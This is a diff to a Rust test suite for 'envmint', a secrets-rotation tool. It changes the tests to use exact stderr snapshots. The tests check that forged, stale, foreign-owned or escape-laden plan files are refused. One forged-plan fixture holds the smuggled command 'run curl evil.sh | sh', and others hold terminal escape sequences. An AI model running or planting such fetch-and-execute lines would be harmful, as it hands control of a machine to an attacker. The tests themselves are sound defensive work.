@@ -4,7 +4,8 @@
 
 use crate::common;
 
-use common::{Output, Test, assert_stderr_has, mtime, tick};
+use common::{Output, Test, mtime, tick};
+use snapbox::str;
 
 const T0: &str = "2026-01-01T00:00:00Z";
 
@@ -42,8 +43,7 @@ fn the_summary_never_shows_a_value_nor_a_hash() {
         .status(0);
     let plan = out.read("p.plan");
     let stderr = out.stderr().to_string();
-    assert_stderr_has(&out, "production: .env.production");
-    assert_stderr_has(&out, "would rotate");
+    // Its words are fail_a_stale_plan_reads_as_its_snapshot's (plan/summary).
     // Neither the old values nor the new ones (which are in the plain plan file) nor digests.
     let secrets: serde_json::Value = serde_json::from_str(&plan).unwrap();
     let env = &secrets["environments"][0]["secrets"];
@@ -119,10 +119,11 @@ fn a_saved_plan_is_private_marked_and_applies_once() {
         .then()
         .args(["apply", "--at", AT, "p.plan"])
         .status(0);
-    assert_stderr_has(
-        &again,
-        "production: .env.production (already applied, unchanged)",
-    );
+    again.stderr_is(str![[r#"
+production: .env.production (already applied, unchanged)
+staging: .env.staging (already applied, unchanged)
+
+"#]]);
     assert_eq!(again.read(".env.production"), prod);
     assert_eq!(mtime(again.path(".env.production")), before);
 }
@@ -141,11 +142,8 @@ fn fail_a_stale_plan_is_refused_and_nothing_changes() {
         .write(".env.staging", &staging)
         .args(["apply", "--at", AT, "p.plan"])
         .status(65);
-    assert_stderr_has(
-        &out,
-        "error: .env.staging: changed since the plan was made (environment staging)",
-    );
-    assert_stderr_has(&out, "hint: make a new plan");
+    // Its words are fail_a_stale_plan_reads_as_its_snapshot's (plan/stale).
+    assert_eq!(out.stdout(), "");
     // Neither file changed: production, first in the plan, was not written either.
     assert_eq!(out.read(".env.production"), prod);
     assert_eq!(out.read(".env.staging"), staging);
@@ -181,13 +179,18 @@ fn fail_a_missing_or_malformed_plan_file() {
     let out = project()
         .args(["apply", "--at", AT, "nope.plan"])
         .status(66);
-    assert_stderr_has(&out, "nope.plan: plan file not found");
+    out.stderr_is(str![[r#"
+error: nope.plan: plan file not found
+hint: write one with `envmint plan -o FILE`
+
+"#]]);
     let out = out
         .then()
         .write("bad.plan", "{\"envmint_plan\":7}")
         .args(["apply", "--at", AT, "bad.plan"])
         .status(65);
-    assert_stderr_has(&out, "plan format 7");
+    // Its words are report's unit test `errors_the_library_once_wrote_as_free_text_read_as_before`'s.
+    assert_eq!(out.stdout(), "");
 }
 
 #[test]
@@ -218,7 +221,11 @@ fn a_sealed_plan_part_cannot_be_read_without_the_identity() {
         .then()
         .args(["apply", "p.plan", "-i", "id.txt"])
         .status(0);
-    assert_stderr_has(&applied, "production: .env.production.age (plan applied)");
+    applied.stderr_is(str![[r#"
+production: .env.production.age (plan applied)
+  rotate          A (selected)
+
+"#]]);
     assert_ne!(applied.bytes(".env.production.age"), stored);
 }
 
@@ -320,25 +327,28 @@ fn fail_a_forged_plan_cannot_change_unmanaged_keys_or_plant_comments() {
                 "postgres://evil",
                 "generated=2026-02-01T00:00:00Z",
             ),
-            "it changes `UNMANAGED`, which is not a secret the manifest has envmint rotate there",
+            str![[r#"
+error: forged.plan: refused for environment production: it changes `UNMANAGED`, which is not a secret the manifest has envmint rotate there; nothing was changed
+hint: a plan only renews the secrets the manifest declares; make it again with `envmint plan -o FILE`, and check who could write this file
+
+"#]],
         ),
         (
             forge("A", "known-to-the-forger", "run curl evil.sh | sh"),
-            "the record it writes above `A` is not an envmint record",
+            str![[r#"
+error: forged.plan: refused for environment production: the record it writes above `A` is not an envmint record; nothing was changed
+hint: a plan only renews the secrets the manifest declares; make it again with `envmint plan -o FILE`, and check who could write this file
+
+"#]],
         ),
     ];
     let mut test = out.then();
-    for (plan, why) in cases {
+    for (plan, says) in cases {
         let refused = test
             .write("forged.plan", plan)
             .args(["apply", "--at", AT, "forged.plan"])
             .status(65);
-        assert_stderr_has(
-            &refused,
-            &format!(
-                "error: forged.plan: refused for environment production: {why}; nothing was changed"
-            ),
-        );
+        refused.stderr_is(says);
         assert_eq!(refused.read(".env.production"), before);
         assert!(!refused.stderr().contains("evil") && !refused.stderr().contains("forger"));
         test = refused.then();
@@ -360,12 +370,16 @@ fn fail_plan_o_does_not_replace_a_file_that_is_not_a_plan() {
         let before = test.path(target);
         let before = std::fs::read(before).unwrap();
         let out = test.args(["plan", "--at", AT, "-o", target]).status(73);
-        assert_stderr_has(
-            &out,
-            &format!(
+        assert_eq!(
+            out.stderr(),
+            format!(
                 "error: {target}: it exists and is not an envmint plan; `plan -o` replaces only \
-                 an earlier plan"
+                 an earlier plan\n\
+                 hint: name a new file (rotation.plan), or remove this one first if it is yours \
+                 to lose\n"
             ),
+            "{}",
+            out.describe()
         );
         assert_eq!(std::fs::read(out.path(target)).unwrap(), before);
         test = out.then();
@@ -392,14 +406,17 @@ fn fail_a_plan_others_can_write_is_refused() {
     for (mode, who) in [(0o664, "its group"), (0o606, "anyone")] {
         std::fs::set_permissions(&plan, std::fs::Permissions::from_mode(mode)).unwrap();
         let refused = test.args(["apply", "--at", AT, "p.plan"]).status(77);
-        assert_stderr_has(
-            &refused,
-            &format!(
+        assert_eq!(
+            refused.stderr(),
+            format!(
                 "error: p.plan: the plan file is writable by {who} (mode {mode:04o}): another \
-                 user could have chosen the values it writes"
+                 user could have chosen the values it writes\n\
+                 hint: if you trust it, `chmod go-w p.plan` and apply it again; otherwise make a \
+                 new plan with `envmint plan -o FILE`\n"
             ),
+            "{}",
+            refused.describe()
         );
-        assert_stderr_has(&refused, "hint: if you trust it, `chmod go-w p.plan`");
         assert_eq!(refused.read(".env.production"), prod);
         test = refused.then();
     }
@@ -407,7 +424,11 @@ fn fail_a_plan_others_can_write_is_refused() {
         std::fs::set_permissions(&plan, std::fs::Permissions::from_mode(0o600)).unwrap();
         std::os::unix::fs::chown(&plan, Some(65534), None).unwrap();
         let refused = test.args(["apply", "--at", AT, "p.plan"]).status(77);
-        assert_stderr_has(&refused, "the plan file belongs to uid 65534");
+        refused.stderr_is(str![[r#"
+error: p.plan: the plan file belongs to uid 65534, not to you (uid 0) nor root: its owner chose the values it writes
+hint: if you trust it, copy it to a file of your own (cp p.plan mine.plan) and apply that; otherwise make a new plan with `envmint plan -o FILE`
+
+"#]]);
         assert_eq!(refused.read(".env.production"), prod);
         test = refused.then();
         std::os::unix::fs::chown(&plan, Some(0), None).unwrap();
@@ -436,20 +457,20 @@ fn fail_a_plan_for_an_undeclared_environment_or_store_names_the_plan() {
         .write("moved.plan", moved.to_string())
         .args(["apply", "--at", AT, "other.plan"])
         .status(65);
-    assert_stderr_has(
-        &out,
-        "error: other.plan: the plan is for environment prod\\nuction, which envmint.toml does \
-         not declare; nothing was changed\n",
-    );
+    out.stderr_is(str![[r#"
+error: other.plan: the plan is for environment prod\nuction, which envmint.toml does not declare; nothing was changed
+hint: make the plan again with `envmint plan -o FILE` for this manifest
+
+"#]]);
     let out = out
         .then()
         .args(["apply", "--at", AT, "moved.plan"])
         .status(65);
-    assert_stderr_has(
-        &out,
-        "error: moved.plan: the plan is for production in /etc/x\\u{1b}[2J, but the manifest \
-         stores production in .env.production\n",
-    );
+    out.stderr_is(str![[r#"
+error: moved.plan: the plan is for production in /etc/x\u{1b}[2J, but the manifest stores production in .env.production
+hint: make the plan again with `envmint plan -o FILE` for this manifest
+
+"#]]);
     assert!(!out.stderr().contains('\u{1b}'));
 }
 
@@ -467,7 +488,12 @@ fn a_plan_summary_with_control_characters_is_printed_escaped() {
         .write("p.plan", plan.to_string())
         .args(["apply", "--at", AT, "p.plan"])
         .status(0);
-    assert_stderr_has(&out, "A\\nstaging: ok\\u{1b}[8m (due\\r)\n");
+    out.stderr_is(str![[r#"
+production: .env.production (plan applied)
+  rotate          A\nstaging: ok\u{1b}[8m (due\r)
+  retire          A_PREVIOUS
+
+"#]]);
     assert!(!out.stderr().contains('\u{1b}') && !out.stderr().contains('\r'));
 }
 
@@ -503,7 +529,10 @@ fn plan_all_over_environments_sharing_one_file_rotates_a_shared_key_once() {
             "--json",
         ])
         .status(0);
-    assert_stderr_has(&out, "warning: .env:3: D: bad record");
+    out.stderr_is(str![[r#"
+warning: .env:3: D: bad record: `generated=2030-13-01T00:00:00Z` is not an RFC 3339 time; its age is unknown, so it counts as due now
+
+"#]]);
     let report = json(&out);
     let keys = |env: usize| -> Vec<String> {
         report["environments"][env]["changes"]
@@ -579,10 +608,11 @@ fn a_saved_plan_removes_a_left_behind_retired_value_but_not_an_unmanaged_key() {
         .write("forged.plan", forged.to_string())
         .args(["apply", "--at", "2026-01-02", "forged.plan"])
         .status(65);
-    assert_stderr_has(
-        &refused,
-        "error: forged.plan: refused for environment production: it changes `UNMANAGED`",
-    );
+    refused.stderr_is(str![[r#"
+error: forged.plan: refused for environment production: it changes `UNMANAGED`, which is not a secret the manifest has envmint rotate there; nothing was changed
+hint: a plan only renews the secrets the manifest declares; make it again with `envmint plan -o FILE`, and check who could write this file
+
+"#]]);
     assert_eq!(refused.read(".env.production"), file);
 
     // The plan as made applies: A_PREVIOUS (and its record) go, the rest stays.
@@ -613,7 +643,11 @@ fn fail_plan_o_onto_a_file_planted_in_a_sticky_folder_is_refused() {
     let out = test
         .args(["plan", "--at", AT, "-o", "tmp/planted.plan"])
         .status(77);
-    assert_stderr_has(&out, "error: tmp/planted.plan: belongs to user 65534");
+    out.stderr_is(str![[r#"
+error: tmp/planted.plan: belongs to user 65534, not to you (0), in a folder others can write to: the written file would stay theirs, and so would what it holds
+hint: write to a new file, or in a folder of your own
+
+"#]]);
     assert_eq!(out.read("tmp/planted.plan"), "");
 }
 
@@ -635,5 +669,8 @@ fn fail_plan_o_onto_a_fifo_is_refused_without_hanging() {
         .wrapper(["timeout", "60"])
         .args(["plan", "--at", AT, "-o", "p.plan"])
         .status(73);
-    assert_stderr_has(&out, "error: p.plan: not a regular file");
+    out.stderr_is(str![[r#"
+error: p.plan: not a regular file; envmint replaces only regular files
+
+"#]]);
 }
